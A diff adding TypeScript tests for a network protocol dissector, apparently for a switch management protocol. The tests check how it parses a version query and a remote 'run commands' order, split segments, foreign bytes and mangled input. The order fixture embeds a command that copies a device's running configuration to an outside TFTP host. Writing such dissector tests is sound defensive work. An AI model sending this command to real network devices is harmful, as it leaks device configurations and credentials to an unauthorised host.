@@ -1,0 +1,43 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { hex } from '#bytes/hex'
+import { mangled } from '#bytes/mangle'
+import { factsOf, sliceOf } from '#model/specimen'
+import { protocol } from './index.ts'
+
+const question = hex('00000001 00000001 00000004 00000008 00000001 00000000')
+const command = new TextEncoder().encode('copy system:running-config tftp://10.0.0.66/x.conf')
+const order = Uint8Array.of(
+  ...hex('00000001 00000001 00000008 0000003e 00010014 00000001 00000000'),
+  ...command,
+)
+
+test('a question and an order', () => {
+  const operation = { kind: 'operation', outcome: 'asked' } as const
+  assert.deepEqual(factsOf(protocol, question), [
+    { ...operation, verb: 'identify', name: 'Ask version', code: '4', object: undefined },
+  ])
+  assert.deepEqual(factsOf(protocol, order), [
+    {
+      ...operation,
+      verb: 'execute',
+      name: 'Run commands',
+      code: '8',
+      object: new TextDecoder().decode(command),
+    },
+  ])
+})
+
+test('asks for the rest of a message split across segments', () => {
+  const slice = sliceOf(order.slice(0, 20), { isStream: true })
+  assert.deepEqual(protocol.dissect(slice, undefined), { kind: 'incomplete', need: order.length })
+})
+
+test('other octets are foreign', () => {
+  for (const other of ['48545450 2f312e31 20323030 204f4b0d', '00000002 00000001 00000004 00000008'])
+    assert.equal(protocol.dissect(sliceOf(hex(other)), undefined).kind, 'foreign')
+})
+
+test('hostile messages end', () => {
+  for (const bytes of [...mangled(question), ...mangled(order)]) factsOf(protocol, bytes)
+})
